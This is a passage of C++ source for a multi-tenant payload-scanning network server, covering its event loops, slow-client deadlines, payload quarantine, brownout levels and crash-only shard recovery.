    auto manager = persist::StateManager::create(
        std::move(manager_config), std::move(cold), nullptr, drift);
    if (!manager.is_ok()) return manager.status();
    if (drift) server->drift_monitors_.emplace(tenant, std::move(drift));
    std::shared_ptr<persist::StateManager> state_manager =
        std::move(manager).take();

    MelServer* raw = server.get();
    state_manager->set_apply_calibration(
        [raw, tenant](const core::DetectorConfig& applied, double tau) {
          return raw->apply_calibration(tenant, applied, tau);
        });
    // A restored snapshot carries the calibration that was serving when
    // it was written; re-install it so a restart resumes where the last
    // process left off (cold starts serve the configured detector
    // as-is, nothing to apply).
    if (state_manager->restore_source() != persist::RestoreSource::kColdStart) {
      const persist::PersistentState restored = state_manager->current();
      if (util::Status status = raw->apply_calibration(
              tenant, restored.detector, restored.tau);
          !status.is_ok()) {
        util::log_warn_ctx({.component = "net"},
                           "restored calibration rejected for tenant ",
                           tenant, ": ", status.to_string());
      }
    }
    server->state_managers_.emplace(tenant, std::move(state_manager));
    return util::Status::ok();
  };
  // A tenant gets a manager when it has durable state to own — or when
  // per-tenant drift is on, in which case even path-less tenants get an
  // ephemeral manager to host their drift loop.
  if (!cfg.snapshot_path.empty() || cfg.drift.has_value()) {
    if (util::Status status = make_manager(
            service::kDefaultTenant, cfg.snapshot_path, cfg.service.detector);
        !status.is_ok()) {
      return status;
    }
  }
  for (const service::TenantConfig& tenant : cfg.service.tenants) {
    if (tenant.snapshot_path.empty() && !cfg.drift.has_value()) continue;
    if (util::Status status = make_manager(
            tenant.id, tenant.snapshot_path,
            tenant.detector ? *tenant.detector : cfg.service.detector);
        !status.is_ok()) {
      return status;
    }
  }

  // --- Listener -----------------------------------------------------------
  server->listen_fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
  if (server->listen_fd_ < 0) {
    return util::Status::internal(errno_string("socket"));
  }
  const int reuse = 1;
  (void)::setsockopt(server->listen_fd_, SOL_SOCKET, SO_REUSEADDR, &reuse,
                     sizeof(reuse));
  ::sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(cfg.port);
  if (::inet_pton(AF_INET, cfg.bind_address.c_str(), &addr.sin_addr) != 1) {
    return util::Status::invalid_config(
        "ServerConfig::bind_address is not an IPv4 address: " +
        cfg.bind_address);
  }
  if (::bind(server->listen_fd_,
             reinterpret_cast<const ::sockaddr*>(&addr), sizeof(addr)) != 0) {
    return util::Status::internal(errno_string("bind"));
  }
  if (::listen(server->listen_fd_, 128) != 0) {
    return util::Status::internal(errno_string("listen"));
  }
  ::socklen_t addr_len = sizeof(addr);
  if (::getsockname(server->listen_fd_,
                    reinterpret_cast<::sockaddr*>(&addr), &addr_len) != 0) {
    return util::Status::internal(errno_string("getsockname"));
  }
  server->port_ = ntohs(addr.sin_port);
  if (util::Status status = set_nonblocking(server->listen_fd_);
      !status.is_ok()) {
    return status;
  }

  int acceptor_pipe[2];
  if (::pipe(acceptor_pipe) != 0) {
    return util::Status::internal(errno_string("pipe"));
  }
  server->acceptor_wake_read_fd_ = acceptor_pipe[0];
  server->acceptor_wake_write_fd_ = acceptor_pipe[1];
  if (util::Status status = set_nonblocking(server->acceptor_wake_read_fd_);
      !status.is_ok()) {
    return status;
  }

  // --- Threads ------------------------------------------------------------
  for (auto& shard : server->shards_) {
    Shard* raw = shard.get();
    shard->thread = std::thread([server_ptr = server.get(), raw] {
      server_ptr->shard_loop(*raw);
    });
  }
  server->acceptor_ =
      std::thread([server_ptr = server.get()] { server_ptr->acceptor_loop(); });

  util::log_info_ctx({.component = "net"}, "serving on ", cfg.bind_address,
                     ":", server->port_, " with ", cfg.shards, " shard(s), ",
                     poller_backend_name(server->shards_[0]->poller.backend()),
                     " poller");
  return server;
}

util::Status MelServer::build_shard_stack(Shard& shard) {
  const ServerConfig& cfg = config_;
  service::ServiceConfig service_config = cfg.service;
  service_config.admission =
      divide_admission(service_config.admission, cfg.shards);
  for (service::TenantConfig& tenant : service_config.tenants) {
    tenant.admission = divide_admission(tenant.admission, cfg.shards);
  }
  shard.cache.reset();
  if (cfg.cache_capacity > 0) {
    persist::VerdictCacheConfig cache_config;
    cache_config.shards = 4;
    cache_config.capacity = std::max<std::size_t>(
        cache_config.shards, cfg.cache_capacity / cfg.shards);
    auto cache = persist::VerdictCache::create(cache_config);
    if (!cache.is_ok()) return cache.status();
    shard.cache = std::move(cache).take();
    service_config.verdict_cache = shard.cache;
  }

  auto service = service::ScanService::create(std::move(service_config));
  if (!service.is_ok()) return service.status();
  shard.service.emplace(std::move(service).take());
  shard.scratch = std::make_unique<exec::MelScratch>();

  auto poller = Poller::create(cfg.poller);
  if (!poller.is_ok()) return poller.status();
  shard.poller = std::move(poller).take();

  int pipe_fds[2];
  if (::pipe(pipe_fds) != 0) {
    return util::Status::internal(errno_string("pipe"));
  }
  shard.wake_read_fd = pipe_fds[0];
  shard.wake_write_fd = pipe_fds[1];
  if (util::Status status = set_nonblocking(shard.wake_read_fd);
      !status.is_ok()) {
    return status;
  }
  return shard.poller.add(shard.wake_read_fd);
}

MelServer::~MelServer() {
  drain();
  for (auto& shard : shards_) {
    if (shard->wake_read_fd >= 0) ::close(shard->wake_read_fd);
    if (shard->wake_write_fd >= 0) ::close(shard->wake_write_fd);
  }
  if (acceptor_wake_read_fd_ >= 0) ::close(acceptor_wake_read_fd_);
  if (acceptor_wake_write_fd_ >= 0) ::close(acceptor_wake_write_fd_);
  if (listen_fd_ >= 0) ::close(listen_fd_);
}

const service::ScanService& MelServer::shard_service(std::size_t shard) const {
  assert(shard < shards_.size());
  return *shards_[shard]->service;
}

service::ServiceState MelServer::state() const noexcept {
  service::ServiceState worst = service::ServiceState::kServing;
  for (const auto& shard : shards_) {
    std::lock_guard<std::mutex> lock(shard->service_mutex);
    const service::ServiceState state = shard->service->state();
    if (static_cast<int>(state) > static_cast<int>(worst)) worst = state;
  }
  return worst;
}

ServerStats MelServer::stats() const noexcept {
  ServerStats stats;
  stats.connections_accepted =
      connections_accepted_.load(std::memory_order_relaxed);
  stats.connections_refused =
      connections_refused_.load(std::memory_order_relaxed);
  for (const auto& shard : shards_) {
    stats.connections_dropped +=
        shard->connections_dropped.load(std::memory_order_relaxed);
    stats.frames_received +=
        shard->frames_received.load(std::memory_order_relaxed);
    stats.scans_ok += shard->scans_ok.load(std::memory_order_relaxed);
    stats.scans_rejected +=
        shard->scans_rejected.load(std::memory_order_relaxed);
    stats.timeout_closes +=
        shard->timeout_closes.load(std::memory_order_relaxed);
    stats.inflight_refused +=
        shard->inflight_refused.load(std::memory_order_relaxed);
  }
  stats.connections_redealt =
      connections_redealt_.load(std::memory_order_relaxed);
  stats.scans_quarantined =
      scans_quarantined_.load(std::memory_order_relaxed);
  stats.scans_screened = scans_screened_.load(std::memory_order_relaxed);
  if (supervisor_ != nullptr) {
    stats.shards_condemned =
        supervisor_->stalls_detected() + supervisor_->deaths_detected();
    stats.shards_rebuilt = supervisor_->shards_rebuilt();
    stats.shard_rebuild_failures = supervisor_->rebuild_failures();
  }
  return stats;
}

util::Status MelServer::apply_calibration(service::TenantId tenant,
                                          const core::DetectorConfig& config,
                                          double tau) {
  util::Status first_error;
  for (auto& shard : shards_) {
    // The per-shard lock serializes this fan-out against the recovery
    // path's service teardown/reconstruction (recover_shard holds it
    // across build_shard_stack): a drift-triggered recalibration on a
    // healthy shard thread must never touch a service object mid-
    // rebuild. Blocking here is bounded by one stack construction; the
    // post-rebuild StateManager::reapply converges any calibration the
    // rebuilt shard missed.
    std::lock_guard<std::mutex> lock(shard->service_mutex);
    util::Status status =
        shard->service->apply_calibration(tenant, config, tau);
    if (!status.is_ok() && first_error.is_ok()) {
      first_error = std::move(status);
    }
  }
  return first_error;
}

std::shared_ptr<persist::StateManager> MelServer::state_manager(
    service::TenantId tenant) const {
  const auto it = state_managers_.find(tenant);
  return it == state_managers_.end() ? nullptr : it->second;
}

std::shared_ptr<persist::DriftMonitor> MelServer::drift_monitor(
    service::TenantId tenant) const {
  const auto it = drift_monitors_.find(tenant);
  return it == drift_monitors_.end() ? nullptr : it->second;
}

void MelServer::wake(Shard& shard) {
  if (shard.wake_write_fd < 0) return;  // Mid-rebuild: pipe torn down.
  const std::uint8_t byte = 1;
  // A full pipe already guarantees a pending wakeup.
  (void)!::write(shard.wake_write_fd, &byte, 1);
}

void MelServer::drain() {
  if (drained_.exchange(true)) return;
  stopping_.store(true, std::memory_order_release);
  const std::uint8_t byte = 1;
  (void)!::write(acceptor_wake_write_fd_, &byte, 1);
  for (auto& shard : shards_) wake(*shard);

  if (acceptor_.joinable()) acceptor_.join();
  for (auto& shard : shards_) {
    if (shard->thread.joinable()) shard->thread.join();
  }
  // Crash-exited shards abandoned their connection tables (fds open for
  // the supervisor to re-deal); if the server drained before a rebuild
  // ran, nothing else will release them. Undispatched inbox fds too.
  for (auto& shard : shards_) {
    for (auto& [fd, conn] : shard->connections) {
      ::close(conn.fd);
      active_connections_.fetch_sub(1, std::memory_order_relaxed);
    }
    shard->connections.clear();
    std::lock_guard<std::mutex> lock(shard->inbox_mutex);
    for (int fd : shard->inbox) {
      ::close(fd);
      active_connections_.fetch_sub(1, std::memory_order_relaxed);
    }
    shard->inbox.clear();
  }
  for (auto& shard : shards_) {
    // Health-gated service drain: in-flight work (none by now — scans
    // are synchronous on the shard thread) finishes, new work refuses.
    (void)shard->service->drain();
  }
  for (auto& [tenant, manager] : state_managers_) {
    if (util::Status status = manager->save(); !status.is_ok()) {
      util::log_warn_ctx({.component = "net"},
                         "snapshot save failed for tenant ", tenant, ": ",
                         status.to_string());
    }
  }
}

// --- Acceptor -------------------------------------------------------------

void MelServer::acceptor_loop() {
  auto poller_or = Poller::create(config_.poller);
  if (!poller_or.is_ok()) {
    util::log_error_ctx({.component = "net"}, "acceptor poller: ",
                        poller_or.status().to_string());
    return;
  }
  Poller poller = std::move(poller_or).take();
  if (!poller.add(listen_fd_).is_ok() ||
      !poller.add(acceptor_wake_read_fd_).is_ok()) {
    util::log_error_ctx({.component = "net"},
                        "acceptor poller registration failed");
    return;
  }

  std::vector<PollerEvent> events;
  while (!stopping_.load(std::memory_order_acquire)) {
    if (!poller.wait(events, config_.loop_tick).is_ok()) break;
    if (supervisor_ != nullptr) supervise_tick();
    for (const PollerEvent& event : events) {
      if (event.fd != listen_fd_ || !event.readable) continue;
      while (true) {
        // EAGAIN or transient (EMFILE under fd exhaustion — existing
        // connections keep serving; the level-triggered listen fd
        // retries at the next poll) breaks back to the wait.
        const int fd = util::fault::sock_accept(listen_fd_);
        if (fd < 0) break;
        dispatch_connection(fd);
      }
    }
  }
}

void MelServer::dispatch_connection(int fd) {
  if (!set_nonblocking(fd).is_ok()) {
    ::close(fd);
    return;
  }
  const int nodelay = 1;
  (void)::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &nodelay,
                     sizeof(nodelay));

  if (active_connections_.load(std::memory_order_relaxed) >=
      config_.max_connections) {
    // Refuse with a well-formed retry-after error frame, best effort on
    // a fresh socket (the frame is small; one write nearly always
    // lands), then close.
    connections_refused_.fetch_add(1, std::memory_order_relaxed);
    const util::ByteBuffer refusal = encode_error(
        service::kDefaultTenant, 0,
        util::Status::unavailable("connection limit reached")
            .with_retry_after(std::chrono::milliseconds(10)));
    (void)!util::fault::sock_write(fd, refusal.data(), refusal.size());
    ::close(fd);
    return;
  }

  const std::size_t start_index =
      next_shard_.fetch_add(1, std::memory_order_relaxed) % shards_.size();
  std::size_t index = start_index;
  if (supervisor_ != nullptr) {
    // Only a healthy shard may adopt: a condemned shard's loop is dead
    // or dying, and a rebuilding one has no poller yet.
    bool found = false;
    for (std::size_t probe = 0; probe < shards_.size(); ++probe) {
      const std::size_t candidate = (start_index + probe) % shards_.size();
      if (supervisor_->table().health(candidate) ==
          super::ShardHealth::kHealthy) {
        index = candidate;
        found = true;
        break;
      }
    }
    if (!found) {
      // Every shard is condemned or mid-rebuild; refuse typed and
      // retryable rather than park the fd on a dead loop.
      connections_refused_.fetch_add(1, std::memory_order_relaxed);
      const util::ByteBuffer refusal = encode_error(
          service::kDefaultTenant, 0,
          util::Status::unavailable("no healthy shard: recovery in progress")
              .with_retry_after(2 * config_.loop_tick));
      (void)!util::fault::sock_write(fd, refusal.data(), refusal.size());
      ::close(fd);
      return;
    }
  }

  active_connections_.fetch_add(1, std::memory_order_relaxed);
  connections_accepted_.fetch_add(1, std::memory_order_relaxed);
  Shard& shard = *shards_[index];
  {
    std::lock_guard<std::mutex> lock(shard.inbox_mutex);
    shard.inbox.push_back(fd);
  }
  wake(shard);
}

// --- Shard event loop -----------------------------------------------------

void MelServer::shard_loop(Shard& shard) {
  std::vector<PollerEvent> events;
  while (true) {
    if (supervisor_ != nullptr) {
      supervisor_->table().heartbeat(shard.index, util::fault::now());
      if (supervisor_->table().condemned(shard.index) ||
          util::fault::should_fire(
              util::fault::Point::kShardHeartbeatLoss)) {
        // Condemned (or fault-injected sudden death): crash-only exit.
        // No flush, no closes — the supervisor inherits the fds.
        shard_crash_exit(shard);
        return;
      }
    }
    const bool stopping = stopping_.load(std::memory_order_acquire);
    if (stopping) {
      // Drain: flush what each connection still owes (best effort on
      // the nonblocking socket — a stalled peer forfeits its tail),
      // then leave. No new frames are read; the service's own drain()
      // runs after the loops exit.
      for (auto& [fd, conn] : shard.connections) {
        while (conn.out_pos < conn.out.size()) {
          const ::ssize_t n =
              util::fault::sock_write(conn.fd, conn.out.data() + conn.out_pos,
                                      conn.out.size() - conn.out_pos);
          if (n > 0) {
            conn.out_pos += static_cast<std::size_t>(n);
            continue;
          }
          if (n < 0 && errno == EINTR) continue;
          break;
        }
        ::close(conn.fd);
        active_connections_.fetch_sub(1, std::memory_order_relaxed);
      }
      shard.connections.clear();
      return;
    }

    if (!shard.poller.wait(events, config_.loop_tick).is_ok()) continue;
    for (const PollerEvent& event : events) {
      if (event.fd == shard.wake_read_fd) {
        std::uint8_t drain_buf[64];
        while (::read(shard.wake_read_fd, drain_buf, sizeof(drain_buf)) > 0) {
        }
        shard_adopt_inbox(shard);
        continue;
      }
      const auto it = shard.connections.find(event.fd);
      if (it == shard.connections.end()) continue;
      Connection& conn = it->second;
      if (event.error) {
        shard_close(shard, event.fd, /*dropped=*/true);
        continue;
      }
      if (event.readable) shard_read(shard, conn);
      if (shard.crash_exit) break;
      // Each step may close the fd and destroy the Connection; re-find
      // before the next one touches it.
      auto again = shard.connections.find(event.fd);
      if (again == shard.connections.end()) continue;
      if (event.writable && !shard_flush(shard, again->second)) continue;
      again = shard.connections.find(event.fd);
      if (again == shard.connections.end()) continue;
      if (event.timer && !shard_check_deadlines(shard, again->second)) {
        continue;
      }
      shard_arm_deadlines(shard, again->second);
    }
    if (shard.crash_exit) {
      shard_crash_exit(shard);
      return;
    }
  }
}

void MelServer::shard_adopt_inbox(Shard& shard) {
  std::vector<int> adopted;
  {
    std::lock_guard<std::mutex> lock(shard.inbox_mutex);
    adopted.swap(shard.inbox);
  }
  for (int fd : adopted) {
    Connection conn;
    conn.fd = fd;
    conn.decoder = FrameDecoder(config_.frame);
    conn.last_read_at = util::fault::now();
    if (!shard.poller.add(fd).is_ok()) {
      ::close(fd);
      active_connections_.fetch_sub(1, std::memory_order_relaxed);
      continue;
    }
    const auto [it, inserted] = shard.connections.emplace(fd, std::move(conn));
    if (inserted) shard_arm_deadlines(shard, it->second);
  }
}

void MelServer::shard_read(Shard& shard, Connection& conn) {
  while (true) {
    std::span<std::uint8_t> area = conn.decoder.write_area(kReadChunkBytes);
    const ::ssize_t n =
        util::fault::sock_read(conn.fd, area.data(), area.size());
    if (n < 0) {
      conn.decoder.commit(0);
      if (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR) break;
      shard_close(shard, conn.fd, /*dropped=*/true);
      return;
    }
    if (n == 0) {  // Peer closed.
      conn.decoder.commit(0);
      shard_close(shard, conn.fd, /*dropped=*/false);
      return;
    }
    conn.decoder.commit(static_cast<std::size_t>(n));
    conn.last_read_at = util::fault::now();
    conn.loris_window_bytes += static_cast<std::size_t>(n);

    while (true) {
      auto next = conn.decoder.next();
      if (!next.is_ok()) {
        // Protocol violation: answer with the typed error, then hang
        // up — a corrupt length-prefixed stream cannot be resumed.
        const util::ByteBuffer frame =
            encode_error(service::kDefaultTenant, 0, next.status());
        conn.out.insert(conn.out.end(), frame.begin(), frame.end());
        conn.close_after_flush = true;
        shard.connections_dropped.fetch_add(1, std::memory_order_relaxed);
        (void)shard_flush(shard, conn);
        return;
      }
      if (!next.value().has_value()) break;
      shard.frames_received.fetch_add(1, std::memory_order_relaxed);
      shard_handle_frame(shard, conn, *next.value());
      if (shard.crash_exit) return;  // Wedged scan: conn is abandoned.
      conn.decoder.release();
      if (conn.close_after_flush) break;
    }
    // Partial-frame tracking for the read deadline and the slow-loris
    // window: both run exactly while the decoder holds a torn frame.
    if (conn.decoder.buffered_bytes() > 0) {
      if (conn.read_start == kNoDeadline) {
        conn.read_start = util::fault::now();
        conn.loris_window_start = conn.read_start;
        conn.loris_window_bytes = 0;
      }
    } else {
      conn.read_start = kNoDeadline;
      conn.loris_window_start = kNoDeadline;
    }
    if (!shard_flush(shard, conn)) return;  // conn destroyed.
    if (n < static_cast<::ssize_t>(area.size())) break;
  }
}

void MelServer::shard_handle_frame(Shard& shard, Connection& conn,
                                   const FrameView& frame) {
  switch (frame.header.type) {
    case FrameType::kPing: {
      const util::ByteBuffer pong = encode_pong(frame.header.request_id);
      conn.out.insert(conn.out.end(), pong.begin(), pong.end());
      return;
    }
    case FrameType::kScanRequest: {
      if (conn.inflight >= config_.max_inflight_per_connection) {
        // Pipelining cap: the peer has more responses queued than it is
        // reading back. Refuse (typed, retryable) without scanning; the
        // connection stays open and the cap clears when the buffered
        // responses drain.
        shard.inflight_refused.fetch_add(1, std::memory_order_relaxed);
        shard.scans_rejected.fetch_add(1, std::memory_order_relaxed);
        const util::ByteBuffer refusal = encode_error(
            frame.header.tenant, frame.header.request_id,
            util::Status::resource_exhausted(
                "per-connection in-flight request cap reached")
                .with_retry_after(std::chrono::milliseconds(5)));
        conn.out.insert(conn.out.end(), refusal.begin(), refusal.end());
        return;
      }
      // --- Supervision: quarantine, brownout, wedge publishing ----------
      persist::Fingerprint fingerprint{};
      const persist::Fingerprint* fingerprint_ptr = nullptr;
      super::BrownoutLevel brownout_level = super::BrownoutLevel::kFull;
      if (supervisor_ != nullptr) {
        fingerprint = persist::fingerprint_payload(frame.payload);
        fingerprint_ptr = &fingerprint;
        super::Quarantine& quarantine = supervisor_->quarantine();
        if (quarantine.is_quarantined(fingerprint)) {
          // Verdict-of-record: terminal and non-retryable. The payload
          // has already wedged scan shards; it is never re-scanned.
          quarantine.record_refusal();
          scans_quarantined_.fetch_add(1, std::memory_order_relaxed);
          shard.scans_rejected.fetch_add(1, std::memory_order_relaxed);
          const util::ByteBuffer refusal = encode_error(
              frame.header.tenant, frame.header.request_id,
              util::Status::invalid_argument(
                  "payload quarantined: fingerprint repeatedly wedged "
                  "scan shards; refused without scanning"));
          conn.out.insert(conn.out.end(), refusal.begin(), refusal.end());
          return;
        }
        brownout_level = supervisor_->brownout().level();
        if (brownout_level == super::BrownoutLevel::kScreenOnly) {
          // Ladder floor: the entropy/signature screen answers without
          // a MEL scan — but never without the service's tenant and
          // admission gates. Brownout engages exactly under the
          // overload/attack conditions where tenant isolation and
          // quotas matter most; an unknown or over-quota tenant gets
          // the same typed refusal a scan would have returned.
          if (util::Status admitted =
                  shard.service->admit_screened(frame.header.tenant);
              !admitted.is_ok()) {
            shard.scans_rejected.fetch_add(1, std::memory_order_relaxed);
            const util::ByteBuffer refusal = encode_error(
                frame.header.tenant, frame.header.request_id, admitted);
            conn.out.insert(conn.out.end(), refusal.begin(), refusal.end());
            return;
          }
          // Always flagged degraded; scan_id 0 says no service scan
          // ran.
          const core::Verdict verdict = super::screen_verdict(
              frame.payload, config_.supervision->brownout.screen);
          supervisor_->brownout().record_screened_scan();
          scans_screened_.fetch_add(1, std::memory_order_relaxed);
          shard.scans_ok.fetch_add(1, std::memory_order_relaxed);
          WireVerdict wire;
          wire.malicious = verdict.malicious;
          wire.degraded = true;
          wire.is_text = verdict.is_text;
          wire.loop_detected = verdict.loop_detected;
          wire.mel = verdict.mel;
          wire.threshold = verdict.threshold;
          wire.alpha = verdict.alpha;
          wire.scan_id = 0;
          const util::ByteBuffer response = encode_verdict(
              frame.header.tenant, frame.header.request_id, wire);
          conn.out.insert(conn.out.end(), response.begin(), response.end());
          conn.inflight += 1;
          return;
        }
        if (util::fault::should_fire(util::fault::Point::kShardStall)) {
          // Wedge model: this scan never returns. Publish it so the
          // watchdog can attribute the stall to this fingerprint, park
          // until condemned (or server drain), then crash-only exit —
          // exactly what a supervisor of a wedged worker process sees.
          conn.scanning = true;
          supervisor_->table().begin_scan(shard.index, fingerprint,
                                          util::fault::now(),
                                          config_.service.budget.deadline);
          while (!supervisor_->table().condemned(shard.index) &&
                 !stopping_.load(std::memory_order_acquire)) {
            std::this_thread::sleep_for(std::chrono::milliseconds(1));
          }
          shard.crash_exit = true;
          return;
        }
      }

      // Zero-copy hand-off: the payload view aliases the decoder's
      // buffer, valid through this synchronous scan.
      service::ScanRequest request;
      request.payload = frame.payload;
      request.tenant = frame.header.tenant;
      request.scratch = shard.scratch.get();
      request.content_fingerprint = fingerprint_ptr;
      if (brownout_level == super::BrownoutLevel::kReducedBudget) {
        // Level 1: scan under the reduced budget. The per-request
        // override also keeps the verdict out of the cache.
        request.budget = config_.supervision->brownout.reduced_budget;
        supervisor_->brownout().record_reduced_scan();
      }
      if (supervisor_ != nullptr) {
        supervisor_->table().begin_scan(
            shard.index, fingerprint, util::fault::now(),
            request.budget.has_value() ? request.budget->deadline
                                       : config_.service.budget.deadline);
      }
      conn.scanning = true;
      const auto report = shard.service->scan(request);
      conn.scanning = false;
      if (supervisor_ != nullptr) supervisor_->table().end_scan(shard.index);
      util::ByteBuffer response;
      if (report.is_ok()) {
        shard.scans_ok.fetch_add(1, std::memory_order_relaxed);
        // Tenant-scoped drift: only this tenant's traffic shapes its
        // window. A window close may run the whole recalibration
        // pipeline inline here (chi-square -> recalibrate -> fan-out
        // -> snapshot), mirroring the service-wide monitor's contract.
        if (!drift_monitors_.empty()) {
          const auto drift_it = drift_monitors_.find(frame.header.tenant);
          if (drift_it != drift_monitors_.end()) {
            drift_it->second->observe(frame.payload);
          }
        }
        WireVerdict wire = to_wire(report.value());
        if (brownout_level == super::BrownoutLevel::kReducedBudget) {
          // Every brownout verdict is flagged on the wire: the fidelity
          // contract degraded even when the reduced budget did not trip.
          wire.degraded = true;
        }
        response = encode_verdict(frame.header.tenant,
                                  frame.header.request_id, wire);
      } else {
        shard.scans_rejected.fetch_add(1, std::memory_order_relaxed);
        response = encode_error(frame.header.tenant,
                                frame.header.request_id, report.status());
      }
      conn.out.insert(conn.out.end(), response.begin(), response.end());
      conn.inflight += 1;
      return;
    }
    default: {
      // Response-typed frame from a client: a protocol violation.
      const util::ByteBuffer error = encode_error(
          frame.header.tenant, frame.header.request_id,
          util::Status::invalid_argument(
              "client sent a server-to-client frame type"));
      conn.out.insert(conn.out.end(), error.begin(), error.end());
      conn.close_after_flush = true;
      shard.connections_dropped.fetch_add(1, std::memory_order_relaxed);
      return;
    }
  }
}

bool MelServer::shard_flush(Shard& shard, Connection& conn) {
  // The write deadline measures from the moment bytes became pending,
  // not from the first stall — a peer trickle-reading one byte per tick
  // cannot reset it.
  if (conn.out_pos < conn.out.size() && conn.write_start == kNoDeadline) {
    conn.write_start = util::fault::now();
  }
  while (conn.out_pos < conn.out.size()) {
    const ::ssize_t n =
        util::fault::sock_write(conn.fd, conn.out.data() + conn.out_pos,
                                conn.out.size() - conn.out_pos);
    if (n > 0) {
      conn.out_pos += static_cast<std::size_t>(n);
      continue;
    }
    if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) {
      if (conn.out.size() - conn.out_pos > config_.max_write_buffer_bytes) {
        // The peer is not reading its verdicts; absorbing unbounded
        // response bytes would let one slow client take the shard down.
        shard_close(shard, conn.fd, /*dropped=*/true);
        return false;
      }
      (void)shard.poller.set_write_interest(conn.fd, true);
      return true;
    }
    if (n < 0 && errno == EINTR) continue;
    shard_close(shard, conn.fd, /*dropped=*/true);
    return false;
  }
  conn.out.clear();
  conn.out_pos = 0;
  conn.inflight = 0;
  conn.write_start = kNoDeadline;
  (void)shard.poller.set_write_interest(conn.fd, false);
  if (conn.close_after_flush) {
    shard_close(shard, conn.fd, /*dropped=*/false);
    return false;
  }
  return true;
}

void MelServer::shard_arm_deadlines(Shard& shard, Connection& conn) {
  auto earliest = kNoDeadline;
  if (config_.idle_timeout.count() > 0) {
    earliest = std::min(earliest, conn.last_read_at + config_.idle_timeout);
  }
  const bool partial_frame = conn.decoder.buffered_bytes() > 0 &&
                             conn.read_start != kNoDeadline;
  if (partial_frame && config_.read_deadline.count() > 0) {
    earliest = std::min(earliest, conn.read_start + config_.read_deadline);
  }
  if (partial_frame && config_.slow_loris_interval.count() > 0) {
    earliest = std::min(
        earliest, conn.loris_window_start + config_.slow_loris_interval);
  }
  if (conn.out_pos < conn.out.size() && conn.write_start != kNoDeadline &&
      config_.write_deadline.count() > 0) {
    earliest = std::min(earliest, conn.write_start + config_.write_deadline);
  }
  (void)shard.poller.set_deadline(conn.fd, earliest);
}

bool MelServer::shard_check_deadlines(Shard& shard, Connection& conn) {
  const auto now = util::fault::now();
  // Refusing a sick-but-healthy-socket peer is best effort, and only
  // when the response stream is clean — injecting an error frame into
  // half-written response bytes would corrupt the peer's decode.
  const auto refuse_and_close = [&](const char* what) {
    if (conn.out_pos >= conn.out.size()) {
      const util::ByteBuffer frame = encode_error(
          service::kDefaultTenant, 0,
          util::Status::deadline_exceeded(what));
      (void)!util::fault::sock_write(conn.fd, frame.data(), frame.size());
    }
    shard.timeout_closes.fetch_add(1, std::memory_order_relaxed);
    shard_close(shard, conn.fd, /*dropped=*/true);
  };

  // A peer that stopped draining its responses is shed: no refusal
  // frame (it is not reading), no blocking, just the close.
  if (conn.out_pos < conn.out.size() && conn.write_start != kNoDeadline &&
      config_.write_deadline.count() > 0 &&
      now >= conn.write_start + config_.write_deadline) {
    shard.timeout_closes.fetch_add(1, std::memory_order_relaxed);
    shard_close(shard, conn.fd, /*dropped=*/true);
    return false;
  }
  const bool partial_frame = conn.decoder.buffered_bytes() > 0 &&
                             conn.read_start != kNoDeadline;
  if (partial_frame && config_.read_deadline.count() > 0 &&
      now >= conn.read_start + config_.read_deadline) {
    refuse_and_close("read deadline exceeded mid-frame");
    return false;
  }
  if (partial_frame && config_.slow_loris_interval.count() > 0 &&
      now >= conn.loris_window_start + config_.slow_loris_interval) {
    if (conn.loris_window_bytes < config_.slow_loris_min_bytes) {
      refuse_and_close("slow-loris: too few bytes per interval mid-frame");
      return false;
    }
    // Enough bytes arrived this interval; open the next window.
    conn.loris_window_start = now;
    conn.loris_window_bytes = 0;
  }
  if (config_.idle_timeout.count() > 0 &&
      now >= conn.last_read_at + config_.idle_timeout) {
    refuse_and_close("idle timeout: no bytes received");
    return false;
  }
  return true;
}

// --- Supervision and crash-only recovery -----------------------------------

void MelServer::shard_crash_exit(Shard& shard) {
  // Crash-only: no flush, no closes, no poller cleanup. The connection
  // table stays intact with its fds open; the supervisor (acceptor
  // thread) joins this thread, re-deals the salvageable fds to healthy
  // shards, and refuses the rest with a typed retry-after.
  shard.crash_exit = true;
  supervisor_->table().mark_exited(shard.index);
}

void MelServer::supervise_tick() {
  const auto now = util::fault::now();
  const super::Supervisor::TickReport report = supervisor_->tick(now);
  for (std::size_t i = 0; i < report.shards.size(); ++i) {
    const super::Supervisor::ShardFinding& finding = report.shards[i];
    if (finding.finding == super::Supervisor::Finding::kStalled) {
      util::log_warn_ctx({.component = "net"}, "shard ", i,
                         " condemned: scan stalled",
                         finding.offender_quarantined
                             ? "; offending payload quarantined"
                             : "");
    } else if (finding.finding == super::Supervisor::Finding::kDead) {
      util::log_warn_ctx({.component = "net"}, "shard ", i,
                         " condemned: heartbeats lost or thread exited");
    }
  }
  for (std::size_t i = 0; i < shards_.size(); ++i) {
    Shard& shard = *shards_[i];
    if (supervisor_->table().health(i) != super::ShardHealth::kCondemned) {
      shard.condemned_at = kNoDeadline;
      continue;
    }
    if (supervisor_->table().exited(i)) {
      shard.condemned_at = kNoDeadline;
      recover_shard(i);
    } else {
      // The shard polls condemnation once per loop iteration; wake it
      // in case it is parked in poller.wait with no traffic.
      if (shard.condemned_at == kNoDeadline) shard.condemned_at = now;
      wake(shard);
      // Recovery is cooperative: a thread can only be rebuilt after it
      // exits, and a genuinely wedged one (hard loop that never polls
      // condemnation) never will. Past the rebuild deadline, stop
      // waiting for the fds parked on its inbox — they were accepted
      // but never adopted, so no scan ran; refuse them typed and
      // retryable instead of stranding them forever. (Connections the
      // shard already adopted stay stranded until drain; see
      // docs/resilience.md, "Recovery limits".)
      if (now - shard.condemned_at >= config_.supervision->rebuild_deadline) {
        refuse_stranded_inbox(shard);
      }
    }
  }
}

void MelServer::refuse_stranded_inbox(Shard& shard) {
  std::vector<int> stranded;
  {
    std::lock_guard<std::mutex> lock(shard.inbox_mutex);
    stranded.swap(shard.inbox);
  }
  if (stranded.empty()) return;
  const util::ByteBuffer refusal = encode_error(
      service::kDefaultTenant, 0,
      util::Status::unavailable(
          "shard wedged past its rebuild deadline; connection was never "
          "adopted (no request was scanned) — retry on a new connection")
          .with_retry_after(config_.supervision->rebuild_deadline));
  for (int fd : stranded) {
    (void)!util::fault::sock_write(fd, refusal.data(), refusal.size());
    ::close(fd);
    active_connections_.fetch_sub(1, std::memory_order_relaxed);
    shard.connections_dropped.fetch_add(1, std::memory_order_relaxed);
  }
